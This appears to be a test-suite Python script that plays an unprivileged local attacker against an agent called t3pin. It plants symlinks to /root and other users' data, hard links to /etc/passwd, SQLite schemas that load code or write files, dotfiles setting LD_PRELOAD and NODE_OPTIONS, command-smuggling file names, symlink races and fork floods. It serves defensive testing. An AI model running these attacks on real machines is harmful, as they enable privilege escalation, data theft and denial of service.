#!/usr/bin/env python3
"""What an unprivileged user may try against t3pin. Runs as that user, on the test machine.

  attacker.py file NAME       puts something hostile in place of a part of the user's own state
  attacker.py undo            takes it away again
  attacker.py race NAME       exchanges a part of the state and a hostile thing without end, in the background
  attacker.py thief NAME PORT takes a port as soon as it is free and lies on it, in the background
  attacker.py crowd           more processes than anybody needs that hold the database, in the background
  attacker.py thousands       more processes than anybody needs, in the background
  attacker.py namespaces      a process in name spaces of its own, in the background
  attacker.py stop            ends what runs in the background
  attacker.py socket NAME     attacks the agent's socket; prints "escape ..." when something was let through
  attacker.py list KIND       the names
"""
import ctypes, json, os, shutil, signal, socket, sqlite3, subprocess, sys, time

from lies import LIES, steal
from sockets import SOCKETS

HOME = os.path.expanduser("~")
T3 = f"{HOME}/.t3"
DATA = f"{T3}/userdata"
ASIDE = f"{HOME}/aside"
PIDS = f"{HOME}/attack.pids"
CANARY = "/root/canary"
OTHER = "/home/bob/.t3"
libc = ctypes.CDLL(None, use_errno=True)


# --- files -------------------------------------------------------------------------------------------------------------------

def instead(path):
    """Moves the real thing aside and notes it; what takes its place is removed by undo."""
    os.makedirs(ASIDE, exist_ok=True)
    with open(f"{HOME}/attack.undo", "a") as undo:
        kept = f"{ASIDE}/{len(os.listdir(ASIDE))}"
        real = os.path.lexists(path)
        if real:
            os.rename(path, kept)
        undo.write(json.dumps([path, kept if real else None]) + "\n")
    return path


def link(path, to):
    os.symlink(to, instead(path))


def database(path, *statements):
    instead(path)
    for suffix in ("-wal", "-shm"):
        instead(path + suffix)
    db = sqlite3.connect(path, isolation_level=None)
    for statement in statements:
        db.execute(statement)
    db.close()


def schema(sql):
    return ("PRAGMA writable_schema=ON", "CREATE TABLE t(x)", f"UPDATE sqlite_schema SET sql='{sql}'", "PRAGMA writable_schema=OFF")


def many(path, count):
    os.mkdir(instead(path), 0o700)
    for number in range(count):
        open(f"{path}/{number}", "w").close()


def deep(path, levels):
    os.mkdir(instead(path), 0o700)
    here = os.getcwd()
    os.chdir(path)
    for _ in range(levels):
        os.mkdir("d", 0o700)
        os.chdir("d")
    os.chdir(here)


def odd(path):
    os.mkdir(instead(path), 0o700)
    for name in (b"new\nline", b"\xff\xfe", b"n" * 255, b"$(touch owned)", b"-rf", b"\x1b[2J", b"..."):
        open(os.path.join(path.encode(), name), "w").close()


def hard(path, to):
    os.mkdir(instead(path), 0o700)
    try:
        os.link(to, f"{path}/linked")
    except OSError:
        # The host forbids it (fs.protected_hardlinks); to one of the user's own files it is allowed.
        open(f"{HOME}/own", "w").close()
        os.link(f"{HOME}/own", f"{path}/linked")


def unix(path):
    server = socket.socket(socket.AF_UNIX)
    here = os.getcwd()
    os.chdir(os.path.dirname(instead(path)))
    server.bind(os.path.basename(path))
    os.chdir(here)


def sparse(path, size):
    with open(instead(path), "wb") as file:
        try:
            file.truncate(size)
        except OSError:
            file.truncate(1 << 40)


def shut(path):
    with open(f"{HOME}/attack.undo", "a") as undo:
        undo.write(json.dumps(["chmod", path]) + "\n")
    os.chmod(path, 0)


def write(path, text):
    with open(instead(path), "w") as file:
        file.write(text)


def work_dir(to):
    """The next work directories of t3pin's, as links."""
    os.makedirs(instead(f"{T3}/.t3pin"), 0o700)
    for number in range(200):
        os.symlink(to, f"{T3}/.t3pin/b{number:06}")


DB = f"{DATA}/state.sqlite"
FILES = {
    "database-is-a-link-to-the-canary": lambda: link(DB, CANARY),
    "database-is-a-link-to-anothers": lambda: link(DB, f"{OTHER}/userdata/state.sqlite"),
    "database-is-a-link-to-a-device": lambda: link(DB, "/dev/zero"),
    "database-is-a-fifo": lambda: os.mkfifo(instead(DB)),
    "database-is-a-socket": lambda: unix(DB),
    "database-is-a-directory": lambda: os.mkdir(instead(DB)),
    "database-is-garbage": lambda: write(DB, "SQLite format 3\0" + "x" * 100000),
    "database-is-huge-and-empty": lambda: sparse(DB, 8 << 40),
    "database-names-a-schema-that-loads-code": lambda: database(DB, *schema("CREATE VIEW t AS SELECT load_extension(\"/tmp/evil.so\")")),
    "database-has-a-schema-that-is-none": lambda: database(DB, *schema("CREATE TABLE t(x, CHECK((((((((")),
    "database-has-tables-that-are-views": lambda: database(
        DB,
        "CREATE VIEW effect_sql_migrations AS WITH RECURSIVE n(migration_id) AS (SELECT 1 UNION ALL SELECT migration_id + 1 FROM n) SELECT * FROM n",
        "CREATE VIEW auth_sessions AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x AS revoked_at, x AS expires_at FROM n",
        "CREATE VIEW projection_turns AS SELECT zeroblob(1000000000) AS thread_id, 1 AS completed_at",
    ),
    "database-has-a-huge-row": lambda: database(DB, "CREATE TABLE effect_sql_migrations(migration_id)", "INSERT INTO effect_sql_migrations VALUES (zeroblob(200000000))"),
    "database-attaches-by-trigger": lambda: database(DB, "CREATE TABLE effect_sql_migrations(migration_id INTEGER)", "CREATE TRIGGER t AFTER INSERT ON effect_sql_migrations BEGIN SELECT writefile('/tmp/owned', 'x'); END"),
    "log-is-a-link-to-the-canary": lambda: link(DB + "-wal", CANARY),
    "log-is-a-fifo": lambda: os.mkfifo(instead(DB + "-wal")),
    "log-is-garbage": lambda: write(DB + "-wal", "\x37\x7f\x06\x82" + "y" * 200000),
    "userdata-is-a-link-to-roots-home": lambda: link(DATA, "/root"),
    "userdata-is-a-link-to-anothers": lambda: link(DATA, f"{OTHER}/userdata"),
    "userdata-is-a-file": lambda: write(DATA, "x"),
    "userdata-is-shut": lambda: shut(DATA),
    "base-is-a-link-to-anothers": lambda: link(T3, OTHER),
    "base-is-a-link-to-everything": lambda: link(T3, "/"),
    "base-is-a-fifo": lambda: os.mkfifo(instead(T3)),
    "home-is-shut": lambda: shut(HOME),
    "secrets-are-a-link-to-roots-home": lambda: link(f"{DATA}/secrets", "/root"),
    "secrets-are-hard-links": lambda: hard(f"{DATA}/secrets", "/etc/passwd"),
    "secrets-are-thousands": lambda: many(f"{DATA}/secrets", 5000),
    "secrets-are-nested-deeply": lambda: deep(f"{DATA}/secrets", 300),
    "secrets-have-odd-names": lambda: odd(f"{DATA}/secrets"),
    "environment-id-is-a-fifo": lambda: os.mkfifo(instead(f"{DATA}/environment-id")),
    "environment-id-is-a-link-to-the-canary": lambda: link(f"{DATA}/environment-id", CANARY),
    "settings-are-huge": lambda: sparse(f"{DATA}/settings.json", 1 << 42),
    "work-copies-are-a-link-to-roots-home": lambda: link(f"{T3}/.t3pin", "/root"),
    "work-copies-are-links-to-anothers": lambda: work_dir(f"{OTHER}/userdata"),
    "work-copies-are-a-fifo": lambda: os.mkfifo(instead(f"{T3}/.t3pin")),
    "work-copies-are-nested-deeply": lambda: deep(f"{T3}/.t3pin", 400),
    "npmrc-and-profile-run-programs": lambda: (
        write(f"{HOME}/.npmrc", f"prefix={HOME}/p\nscript-shell={HOME}/evil\nnode-options=--require={HOME}/evil.js\nregistry=http://127.0.0.1:1/\n"),
        write(f"{HOME}/.profile", f"id -u >>{HOME}/ran-as\n"),
        write(f"{HOME}/.bash_profile", f"id -u >>{HOME}/ran-as\n"),
        write(f"{HOME}/evil.js", f"require('fs').appendFileSync('{HOME}/ran-as', process.getuid() + '\\n')"),
        write(f"{HOME}/.config", "not a directory"),
    ),
}

# What a login shell, npm or node would read. Each notes who ran it and with what, and then has no end.
NOISE = f"""id -u >>{HOME}/ran-as; env >>{HOME}/ran-with
(setsid sleep 300 &) ; trap '' TERM HUP
while :; do printf '{{"credential":"AAAA","id":"x"}}\\n\\033[2J' 2>/dev/null || exit; done
"""
FILES["dotfiles-that-talk-without-end"] = lambda: [
    write(f"{HOME}/{name}", NOISE) for name in (".profile", ".bash_profile", ".bash_login", ".bashrc", ".zshenv", ".bash_logout", ".envrc")
] + [
    os.makedirs(instead(f"{HOME}/.config/environment.d")),
    write(f"{HOME}/.config/environment.d/evil.conf", f"BASH_ENV={HOME}/.profile\nENV={HOME}/.profile\nNODE_OPTIONS=--require={HOME}/evil.js\nLD_PRELOAD={HOME}/evil.so\n"),
    write(f"{HOME}/evil.js", f"require('fs').appendFileSync('{HOME}/ran-as', process.getuid() + '\\n'); for (;;) console.log('{{}}')"),
    write(f"{HOME}/.npmrc", f"script-shell={HOME}/.profile\nnode-options=--require={HOME}/evil.js\ncafile=/root/canary\n"),
    write(f"{HOME}/.node_repl_history", "x"),
    os.makedirs(instead(f"{HOME}/.node_modules")),
]


def undo():
    os.chmod(HOME, 0o755)
    notes = f"{HOME}/attack.undo"
    if not os.path.exists(notes):
        return
    for line in reversed(open(notes).read().splitlines()):
        path, kept = json.loads(line)
        if path == "chmod":
            os.chmod(kept, 0o755)
            continue
        if os.path.isdir(path) and not os.path.islink(path):
            subprocess.run(["chmod", "-R", "u+rwx", path], stderr=subprocess.DEVNULL)
            subprocess.run(["rm", "-rf", path])
        elif os.path.lexists(path):
            os.unlink(path)
        if kept:
            os.rename(kept, path)
    os.unlink(notes)
    shutil.rmtree(ASIDE, ignore_errors=True)


# --- in the background -------------------------------------------------------------------------------------------------------

def background(work):
    if os.fork():
        return
    os.setsid()
    with open(PIDS, "a") as pids:
        pids.write(f"{os.getpid()}\n")
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(3):
        os.dup2(null, fd)
    try:
        work()
    finally:
        os._exit(0)


def stop():
    if os.path.exists(PIDS):
        for pid in open(PIDS).read().split():
            try:
                os.killpg(int(pid), signal.SIGKILL)
            except OSError:
                pass
        os.unlink(PIDS)


def exchange(one, other):
    """Until it is stopped: renameat2 with RENAME_EXCHANGE (2)."""
    while True:
        libc.renameat2(-100, one.encode(), -100, other.encode(), 2)


def race(path, to):
    trap = f"{path}.trap"
    if not os.path.lexists(trap):
        os.symlink(to, trap)
    exchange(path, trap)


def race_work():
    while True:
        try:
            for name in os.listdir(f"{T3}/.t3pin"):
                path = f"{T3}/.t3pin/{name}"
                if not os.path.islink(path):
                    os.rename(path, f"{HOME}/stolen-{time.monotonic_ns()}")
                    os.symlink("/root", path)
        except OSError:
            pass


def worth(base):
    """How much work lies in a base directory, and of how old a version."""
    try:
        db = sqlite3.connect(f"file:{base}/userdata/state.sqlite?mode=ro", uri=True)
        return (db.execute("SELECT count(*) FROM projection_turns").fetchone()[0], -db.execute("SELECT max(migration_id) FROM effect_sql_migrations").fetchone()[0])
    except sqlite3.Error:
        return (-1, 0)


def race_twin():
    """Two directories of the user's own, each with all there is: which one t3pin meets is chance."""
    if not os.path.exists(f"{T3}.twin"):
        subprocess.run(["cp", "-a", T3, f"{T3}.twin"])
    exchange(T3, f"{T3}.twin")


RACES = {
    "base-and-another-directory": race_twin,
    "userdata-and-a-link-to-roots-home": lambda: race(DATA, "/root"),
    "userdata-and-a-link-to-anothers": lambda: race(DATA, f"{OTHER}/userdata"),
    "base-and-a-link-to-anothers": lambda: race(T3, OTHER),
    "database-and-a-link-to-the-canary": lambda: race(DB, CANARY),
    "work-copies-are-stolen-as-they-are-made": race_work,
    "exports-and-a-link-to-roots-home": lambda: race(os.makedirs(f"{HOME}/out", exist_ok=True) or f"{HOME}/out", "/root"),
}


def unrace():
    if os.path.isdir(f"{T3}.twin"):
        # What came back came into one of the two; the user keeps that one.
        if worth(f"{T3}.twin") > worth(T3):
            libc.renameat2(-100, T3.encode(), -100, f"{T3}.twin".encode(), 2)
        subprocess.run(["rm", "-rf", f"{T3}.twin"])
    for path in (DATA, T3, DB, f"{HOME}/out"):
        trap = f"{path}.trap"
        if os.path.islink(path) and os.path.lexists(trap):
            libc.renameat2(-100, path.encode(), -100, trap.encode(), 2)
        if os.path.islink(trap):
            os.unlink(trap)
    subprocess.run(f"chmod -R u+rwx {HOME}/stolen-* 2>/dev/null; rm -rf {HOME}/stolen-*; find {T3}/.t3pin -type l -delete 2>/dev/null", shell=True)


def namespaces():
    """In name spaces of the user's own something else lies over the data, a process there holds the real one, and pids are others."""
    script = f"""
        exec 9<>{DB}
        mount --bind {OTHER} {T3} 2>/dev/null; mount --bind / {DATA} || mount -t tmpfs none {T3}
        exec 8<>/proc/1/root/root/canary; ls /proc/1/root/root >{HOME}/seen-as-root; cat /root/canary >{HOME}/seen-as-root
        mount -t overlay o -o lowerdir=/root,upperdir={HOME}/up,workdir={HOME}/work /mnt
        exec sleep 600"""
    subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "--pid", "--fork", "--mount-proc", "bash", "-c", script])


def thousands():
    for _ in range(1500):
        if os.fork() == 0:
            try:
                ctypes.CDLL(None).prctl(15, b"t3 serve", 0, 0, 0)
                libc.inotify_init1(0)
            finally:
                signal.pause()
    signal.pause()


def crowd():
    children = []
    for _ in range(300):
        child = os.fork()
        if child == 0:
            held = [open(DB) for _ in range(50)]
            time.sleep(600)
            os._exit(len(held))
        children.append(child)
    time.sleep(600)


CROWDS = {"crowd": crowd, "namespaces": namespaces, "thousands": thousands}


def main():
    what, *rest = sys.argv[1:]
    if what == "list":
        print("\n".join({"file": FILES, "race": RACES, "thief": LIES, "socket": SOCKETS}[rest[0]]))
    elif what == "file":
        FILES[rest[0]]()
    elif what == "undo":
        undo()
    elif what == "race":
        background(RACES[rest[0]])
    elif what == "thief":
        background(lambda: steal(int(rest[1]), LIES[rest[0]]))
    elif what in CROWDS:
        background(CROWDS[what])
    elif what == "stop":
        stop()
        unrace()
    elif what == "socket":
        SOCKETS[rest[0]]()


main()
